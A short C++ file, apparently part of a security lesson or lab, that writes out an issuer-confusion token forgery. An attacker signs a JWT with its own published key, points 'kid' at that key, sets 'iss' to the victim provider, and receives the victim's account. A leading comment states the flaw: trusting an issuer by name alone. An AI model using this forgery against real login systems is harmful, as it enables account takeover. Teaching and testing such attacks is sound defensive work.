// Believes: to be a user of the other provider, its name is enough.
#include "rogue_provider.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  evidence.publish(evidence.own_key);
  auto token = evidence.own_token;
  token.header.set("kid", evidence.own_key.id());
  token.claims.set("iss", evidence.victim.issuer);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
